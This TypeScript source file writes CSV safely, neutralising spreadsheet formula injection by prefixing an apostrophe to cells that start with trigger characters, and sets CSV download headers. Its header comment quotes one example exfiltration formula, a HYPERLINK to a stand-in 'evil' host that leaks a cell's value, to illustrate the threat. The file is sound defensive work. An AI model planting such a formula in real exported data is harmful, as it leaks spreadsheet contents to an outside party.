/**
 * Writing CSV (RFC 4180) that is safe to open in a spreadsheet.
 *
 * Formula injection (OWASP "CSV Injection"): a text cell that begins with
 * `=`, `+`, `-`, `@`, a tab or a carriage return (or their full-width forms)
 * is read by Excel, LibreOffice and Google Sheets as a formula, which can
 * run commands or leak data (`=HYPERLINK("https://evil/?"&A1)`). Such cells
 * get a leading apostrophe, which spreadsheets show as text and never run.
 * Numbers given as numbers (`-5`, `1e3`) stay numbers; the same characters in
 * a string are text and are neutralised. `restoreFormulaPrefix` in
 * parse-csv.ts undoes it on import, so an export re-imports unchanged.
 */

export type CsvValue = string | number | boolean | Date | null | undefined;

export interface CsvColumn<Row> {
  header: string;
  value: (row: Row) => CsvValue;
}

export interface CsvWriteOptions {
  /** Start with a UTF-8 byte order mark, so Excel reads accents correctly. Default false. */
  bom?: boolean;
  /** Record separator; RFC 4180 says CRLF (the default). */
  newline?: '\r\n' | '\n';
}

/** The characters that make a spreadsheet read a cell as a formula. */
const formulaTriggers = new Set([
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
]);

/** True when a spreadsheet would treat this text as a formula (or a DDE command). */
export function looksLikeFormula(text: string): boolean {
  return text.length > 0 && formulaTriggers.has(text[0]!);
}

/** Prefixes an apostrophe to text a spreadsheet would run as a formula; other text is unchanged. */
export function neutraliseFormula(text: string): string {
  return looksLikeFormula(text) ? `'${text}` : text;
}

/** RFC 4180 quoting: a field with a comma, quote, line break or edge spaces is quoted, quotes doubled. */
export function quoteCsvField(text: string): string {
  return /[",\r\n]|^\s|\s$/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/**
 * One cell as CSV text: numbers as plain numerals (non-finite ones empty),
 * dates as ISO 8601, booleans as `true`/`false`, text neutralised and quoted.
 */
export function csvCell(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  if (typeof value === 'boolean') return value ? 'true' : 'false';
  if (value instanceof Date) return Number.isNaN(value.getTime()) ? '' : value.toISOString();
  return quoteCsvField(neutraliseFormula(value));
}

/** A header row and one record per row, each cell made safe by `csvCell`. */
export function toCsv<Row>(
  rows: Iterable<Row>,
  columns: readonly CsvColumn<Row>[],
  options: CsvWriteOptions = {},
): string {
  const newline = options.newline ?? '\r\n';
  const lines = [columns.map((column) => csvCell(column.header)).join(',')];
  for (const row of rows) lines.push(columns.map((column) => csvCell(column.value(row))).join(','));
  return `${options.bom ? '\uFEFF' : ''}${lines.join(newline)}${newline}`;
}

/**
 * Response headers for a CSV download: the right type and charset, an
 * attachment with an ASCII fallback name and the exact UTF-8 name
 * (RFC 6266 / RFC 5987), and no content sniffing.
 */
export function csvDownloadHeaders(filename: string): Record<string, string> {
  const ascii = filename.replace(/[^\w.-]+/g, '_') || 'export.csv';
  return {
    'Content-Type': 'text/csv; charset=utf-8',
    'Content-Disposition': `attachment; filename="${ascii}"; filename*=UTF-8''${encodeURIComponent(filename)}`,
    'X-Content-Type-Options': 'nosniff',
  };
}
